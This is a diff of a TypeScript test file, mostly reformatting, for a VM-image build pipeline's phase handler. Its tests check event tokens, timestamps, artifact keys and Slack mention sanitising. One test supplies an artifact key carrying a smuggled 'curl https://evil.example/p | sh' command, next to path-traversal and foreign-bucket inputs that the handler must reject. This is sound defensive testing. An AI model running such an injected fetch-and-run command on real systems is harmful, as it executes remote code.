@@ -47,7 +47,12 @@ describe('build-phase (Build Phase from the runner)', () => {
   it('cloning in launching → building (Phase, ActualCommit); building then sets BuildStartTime (handler clock) without a new message', async () => {
     const build = await world().seed(aLaunchedBuild('launching'));
     await twice(buildPhase(detail(build, { phase: 'cloning', at: at(4), actualCommit: 'abc1234def5678' })));
-    expect(await world().get(build.BuildID)).toMatchObject({ Status: 'building', Phase: 'cloning', ActualCommit: 'abc1234def5678', NotifiedStatus: 'building' });
+    expect(await world().get(build.BuildID)).toMatchObject({
+      Status: 'building',
+      Phase: 'cloning',
+      ActualCommit: 'abc1234def5678',
+      NotifiedStatus: 'building',
+    });
     expect((await world().get(build.BuildID))?.BuildStartTime).toBeUndefined();
 
     world().clock.minutesAfterT0(12);
@@ -137,45 +142,60 @@ describe('build-phase (Build Phase from the runner)', () => {
     expect(world().replies(build)).toHaveLength(1);
   });
 
-  it.each(['launching', 'building', 'uploading'] as const)('failed in %s → failed with ErrorMessage, LogTail, log key and log group; [FAILED]', async (status) => {
-    const build = await world().seed(aLaunchedBuild(status));
-    const logTail = 'packer: ==> qemu: Error: <!channel> disk full\nBuild failed.';
-    await twice(
-      buildPhase(
-        detail(build, {
-          phase: 'failed',
-          at: at(40),
-          message: 'packer build failed (exit 1)',
-          logTail,
-          logKey: LOG_KEY,
-        }),
-      ),
-    );
-    expect(await world().get(build.BuildID)).toMatchObject({
-      Status: 'failed',
-      Phase: 'failed',
-      CompletionTime: at(10),
-      ErrorMessage: 'packer build failed (exit 1)',
-      LogTail: logTail,
-      LogKey: LOG_KEY,
-    });
-    const replies = world().replies(build);
-    expect(replies).toHaveLength(1);
-    expect(replies[0]!.subtype).toBe('thread_broadcast');
-    const shown = JSON.stringify(replies[0]!.blocks);
-    expect(shown).toContain('packer build failed (exit 1)');
-    expect(shown).toContain('&lt;!channel&gt; disk full');
-    expect(shown).not.toContain('<!channel>');
-    expect(shown).toContain(`aws s3 cp \\"s3://${BUCKET}/${LOG_KEY}\\" .`);
-    expect(shown).toContain(`/labapp/metal-builds/${build.BuildID}`);
-    expect(world().published().map((p) => p.Subject)).toEqual([`[FAILED] metal-build ${build.BuildID} failed`]);
-    expect(world().ec2.requests).toEqual([]);
-    expect(await world().slots()).toEqual([build.BuildID]);
-  });
+  it.each(['launching', 'building', 'uploading'] as const)(
+    'failed in %s → failed with ErrorMessage, LogTail, log key and log group; [FAILED]',
+    async (status) => {
+      const build = await world().seed(aLaunchedBuild(status));
+      const logTail = 'packer: ==> qemu: Error: <!channel> disk full\nBuild failed.';
+      await twice(
+        buildPhase(
+          detail(build, {
+            phase: 'failed',
+            at: at(40),
+            message: 'packer build failed (exit 1)',
+            logTail,
+            logKey: LOG_KEY,
+          }),
+        ),
+      );
+      expect(await world().get(build.BuildID)).toMatchObject({
+        Status: 'failed',
+        Phase: 'failed',
+        CompletionTime: at(10),
+        ErrorMessage: 'packer build failed (exit 1)',
+        LogTail: logTail,
+        LogKey: LOG_KEY,
+      });
+      const replies = world().replies(build);
+      expect(replies).toHaveLength(1);
+      expect(replies[0]!.subtype).toBe('thread_broadcast');
+      const shown = JSON.stringify(replies[0]!.blocks);
+      expect(shown).toContain('packer build failed (exit 1)');
+      expect(shown).toContain('&lt;!channel&gt; disk full');
+      expect(shown).not.toContain('<!channel>');
+      expect(shown).toContain(`aws s3 cp \\"s3://${BUCKET}/${LOG_KEY}\\" .`);
+      expect(shown).toContain(`/labapp/metal-builds/${build.BuildID}`);
+      expect(
+        world()
+          .published()
+          .map((p) => p.Subject),
+      ).toEqual([`[FAILED] metal-build ${build.BuildID} failed`]);
+      expect(world().ec2.requests).toEqual([]);
+      expect(await world().slots()).toEqual([build.BuildID]);
+    },
+  );
 
-  it('a phase from an instance that is not the build\'s is dropped and logged', async () => {
+  it("a phase from an instance that is not the build's is dropped and logged", async () => {
     const build = await world().seed(aLaunchedBuild('building'));
-    await phase(buildPhase({ buildId: build.BuildID, instanceId: 'i-0badbadbadbadbad0', phase: 'completed', at: at(30), artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 } }));
+    await phase(
+      buildPhase({
+        buildId: build.BuildID,
+        instanceId: 'i-0badbadbadbadbad0',
+        phase: 'completed',
+        at: at(30),
+        artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 },
+      }),
+    );
     expect(await world().get(build.BuildID)).toEqual(build);
     expect(world().replies(build)).toEqual([]);
     expect(world().published()).toEqual([]);
@@ -197,7 +217,11 @@ describe('build-phase (Build Phase from the runner)', () => {
     await phase(buildPhase(detail(build, { phase: 'building', at: at(6) })));
     await phase(completed);
     expect(await world().get(build.BuildID)).toMatchObject({ Status: 'completed', ArtifactKey: ARTIFACT_KEY });
-    expect(world().replies(build).map((r) => r.text)).toEqual([expect.stringContaining('Building'), expect.stringContaining('completed')]);
+    expect(
+      world()
+        .replies(build)
+        .map((r) => r.text),
+    ).toEqual([expect.stringContaining('Building'), expect.stringContaining('completed')]);
   });
 
   it('a phase before the launch was recorded (approved, no InstanceID) is refused for a retry, nothing changed', async () => {
@@ -208,7 +232,9 @@ describe('build-phase (Build Phase from the runner)', () => {
   });
 
   it('a late phase after the build ended changes nothing', async () => {
-    const build = await world().seed(aLaunchedBuild('building', { Status: 'cancelled', CancelledBy: 'U0REQUESTER', TerminationReason: 'cancelled' }), { machine: false });
+    const build = await world().seed(aLaunchedBuild('building', { Status: 'cancelled', CancelledBy: 'U0REQUESTER', TerminationReason: 'cancelled' }), {
+      machine: false,
+    });
     await phase(buildPhase(detail(build, { phase: 'failed', at: at(30), message: 'killed' })));
     expect(await world().get(build.BuildID)).toEqual(build);
     expect(world().replies(build)).toEqual([]);
@@ -250,16 +276,16 @@ describe('build-phase: the event token', () => {
 
   it.each([
     ['a made-up token', 'f'.repeat(64)],
-    ['another build\'s token', eventTokenOf('build-20261125-170052-zzzz')],
+    ["another build's token", eventTokenOf('build-20261125-170052-zzzz')],
     ['the right token with one character changed', eventTokenOf('build-20261125-170052-a1b2').replace(/^./, (c) => (c === '0' ? '1' : '0'))],
-    ['the token\'s hash (what the record keeps)', sha256(eventTokenOf('build-20261125-170052-a1b2'))],
+    ["the token's hash (what the record keeps)", sha256(eventTokenOf('build-20261125-170052-a1b2'))],
     ['a short token', 'x'],
   ])('%s: dropped and logged with the BuildID; no table change, no Slack message, no mail', async (_name, token) => {
     const build = await world().seed(aLaunchedBuild('uploading'));
     await expectRefused(build, completedWith(build, token), DROPPED);
   });
 
-  it('is checked against the record\'s EventTokenHash when the launch wrote one', async () => {
+  it("is checked against the record's EventTokenHash when the launch wrote one", async () => {
     const given = 'ab'.repeat(32);
     const build = await world().seed(aLaunchedBuild('uploading', { EventTokenHash: sha256(given) }));
     // The key's token is not this launch's: the record decides.
@@ -301,7 +327,9 @@ describe('build-phase: the event token', () => {
     const instanceId = launched.InstanceID!;
     const report = (d: Partial<Detail> & Pick<Detail, 'phase' | 'at'>) => buildPhase({ buildId: approved.BuildID, instanceId, eventToken: token, ...d });
     await phase(report({ phase: 'building', at: at(6), actualCommit: 'abc1234def5678' }));
-    await phase(report({ phase: 'completed', at: at(80), actualCommit: 'abc1234def5678', artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 } }));
+    await phase(
+      report({ phase: 'completed', at: at(80), actualCommit: 'abc1234def5678', artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 } }),
+    );
     expect(await world().get(approved.BuildID)).toMatchObject({ Status: 'completed', ArtifactKey: ARTIFACT_KEY });
   });
 
@@ -314,8 +342,14 @@ describe('build-phase: the event token', () => {
     await phase(buildPhase(detail(build, { phase: 'uploading', at: at(70), eventToken: forged })));
     await phase(buildPhase(detail(build, { phase: 'uploading', at: at(70), eventToken: token })));
     await phase({ ...buildPhase(detail(build, { phase: 'completed', at: at(80), eventToken: token })), source: 'elsewhere' });
-    await phase(buildPhase(detail(build, { phase: 'completed', at: at(80), eventToken: token, artifact: { bucket: BUCKET, key: 'evil.ova', sha256: SHA256, bytes: 1 } })));
-    await phase(buildPhase(detail(build, { phase: 'completed', at: at(80), eventToken: token, artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 } })));
+    await phase(
+      buildPhase(detail(build, { phase: 'completed', at: at(80), eventToken: token, artifact: { bucket: BUCKET, key: 'evil.ova', sha256: SHA256, bytes: 1 } })),
+    );
+    await phase(
+      buildPhase(
+        detail(build, { phase: 'completed', at: at(80), eventToken: token, artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 } }),
+      ),
+    );
     expect(await world().get(build.BuildID)).toMatchObject({ Status: 'completed' });
     expect(logLines(world()).length).toBeGreaterThan(5);
 
@@ -328,7 +362,16 @@ describe('build-phase: times from the machine decide nothing', () => {
   it('a completed dated 2036 is completed now (handler clock), so the did-not-shut-down rule counts from now', async () => {
     const build = await world().seed(aLaunchedBuild('uploading'));
     world().clock.minutesAfterT0(85);
-    await phase(buildPhase(detail(build, { phase: 'completed', at: '2036-01-01T00:00:00.000Z', durationSeconds: 10 ** 9, artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 } })));
+    await phase(
+      buildPhase(
+        detail(build, {
+          phase: 'completed',
+          at: '2036-01-01T00:00:00.000Z',
+          durationSeconds: 10 ** 9,
+          artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 },
+        }),
+      ),
+    );
     expect(await world().get(build.BuildID)).toMatchObject({ Status: 'completed', CompletionTime: at(85), BuildDurationSeconds: 10 ** 9 });
   });
 
@@ -343,11 +386,17 @@ describe('build-phase: times from the machine decide nothing', () => {
   });
 
   const unexpectedEnd = () =>
-    aLaunchedBuild('uploading', { Status: 'terminated', TerminationReason: 'unexpected', TerminatedAt: at(90), CompletionTime: at(90), InstanceState: 'terminated' });
+    aLaunchedBuild('uploading', {
+      Status: 'terminated',
+      TerminationReason: 'unexpected',
+      TerminatedAt: at(90),
+      CompletionTime: at(90),
+      InstanceState: 'terminated',
+    });
   const lateCompleted = (build: Build) =>
     buildPhase(detail(build, { phase: 'completed', at: at(89), artifact: { bucket: BUCKET, key: ARTIFACT_KEY, sha256: SHA256, bytes: 1 } }));
 
-  it('a late completed arriving within 15 minutes of TerminatedAt reopens the build, with the runner\'s at', async () => {
+  it("a late completed arriving within 15 minutes of TerminatedAt reopens the build, with the runner's at", async () => {
     const build = await world().seed(unexpectedEnd(), { machine: false, slot: false });
     world().clock.minutesAfterT0(105);
     await phase(lateCompleted(build));
@@ -362,7 +411,11 @@ describe('build-phase: times from the machine decide nothing', () => {
     expect(stored).toMatchObject({ Status: 'terminated', TerminationReason: 'unexpected', CompletionTime: at(90), Phase: 'uploading' });
     expect(stored?.ArtifactKey).toBeUndefined();
     expect(world().replies(build)).toEqual([]);
-    expect(world().published().map((p) => p.Subject)).not.toContainEqual(expect.stringContaining('[OK]'));
+    expect(
+      world()
+        .published()
+        .map((p) => p.Subject),
+    ).not.toContainEqual(expect.stringContaining('[OK]'));
   });
 });
 
@@ -375,8 +428,8 @@ describe('build-phase: keys, sums and sizes from the machine', () => {
   it.each<[string, Record<string, unknown>, string]>([
     ['a key with a shell command', { key: `builds/${ID}/x.ova . ; curl https://evil.example/p | sh ; echo` }, LAYOUT],
     ['a key under releases/', { key: 'releases/v1.2.3/hedgehog-lab-prewarmed-1.2.3.ova' }, LAYOUT],
-    ['another build\'s key', { key: 'builds/build-20261125-170052-zzzz/hedgehog-lab-prewarmed-0.0.0-abc1234.ova' }, LAYOUT],
-    ['a key with another commit\'s version', { key: `builds/${ID}/hedgehog-lab-prewarmed-0.0.0-fffffff.ova` }, LAYOUT],
+    ["another build's key", { key: 'builds/build-20261125-170052-zzzz/hedgehog-lab-prewarmed-0.0.0-abc1234.ova' }, LAYOUT],
+    ["a key with another commit's version", { key: `builds/${ID}/hedgehog-lab-prewarmed-0.0.0-fffffff.ova` }, LAYOUT],
     ['a key climbing out of the prefix', { key: `builds/${ID}/../x/hedgehog-lab-prewarmed-0.0.0-abc1234.ova` }, LAYOUT],
     ['a key with a trailing newline', { key: `${ARTIFACT_KEY}\n` }, LAYOUT],
     ['another bucket', { bucket: 'attacker-bucket' }, LAYOUT],
@@ -392,7 +445,15 @@ describe('build-phase: keys, sums and sizes from the machine', () => {
     const build = await world().seed(aLaunchedBuild('uploading'));
     await expectRefused(
       build,
-      buildPhase(detail(build, { phase: 'completed', at: at(80), actualCommit: 'abc1234def5678', artifact: { ...artifact, ...change } as typeof artifact, logKey: LOG_KEY })),
+      buildPhase(
+        detail(build, {
+          phase: 'completed',
+          at: at(80),
+          actualCommit: 'abc1234def5678',
+          artifact: { ...artifact, ...change } as typeof artifact,
+          logKey: LOG_KEY,
+        }),
+      ),
       message,
     );
   });
@@ -411,7 +472,7 @@ describe('build-phase: keys, sums and sizes from the machine', () => {
     );
   });
 
-  it('a vX.Y.Z build\'s artifact is builds/<id>/hedgehog-lab-prewarmed-X.Y.Z.ova', async () => {
+  it("a vX.Y.Z build's artifact is builds/<id>/hedgehog-lab-prewarmed-X.Y.Z.ova", async () => {
     const build = await world().seed(aLaunchedBuild('uploading', { BuildBranch: 'v1.2.3', BuildCommit: undefined }));
     const releaseKey = `builds/${ID}/hedgehog-lab-prewarmed-1.2.3.ova`;
     await expectRefused(build, buildPhase(detail(build, { phase: 'completed', at: at(80), artifact })), LAYOUT);
@@ -456,11 +517,9 @@ describe('build-phase: text from the machine reaches Slack and mail inert', () =
     ]);
     // Nothing anywhere in Slack (thread, broadcast, card) can mention or link: only the requester is mentioned.
     const slack = JSON.stringify(world().slack.calls.map((c) => c.args));
-    for (const live of ['<!channel>', '<!here>', '<@U0TARGET>', '<!subteam', '<https://', '@here', '@channel'])
-      expect(slack, live).not.toContain(live);
+    for (const live of ['<!channel>', '<!here>', '<@U0TARGET>', '<!subteam', '<https://', '@here', '@channel']) expect(slack, live).not.toContain(live);
     const [mail] = world().published();
-    for (const live of ['<!channel>', '<!here>', '<@U0TARGET>', '<!subteam', '<https://', '@here', '@channel'])
-      expect(mail!.Message, live).not.toContain(live);
+    for (const live of ['<!channel>', '<!here>', '<@U0TARGET>', '<!subteam', '<https://', '@here', '@channel']) expect(mail!.Message, live).not.toContain(live);
     expect(mail!.Message).toContain(`boom <${zw}!channel>`);
   });
 });
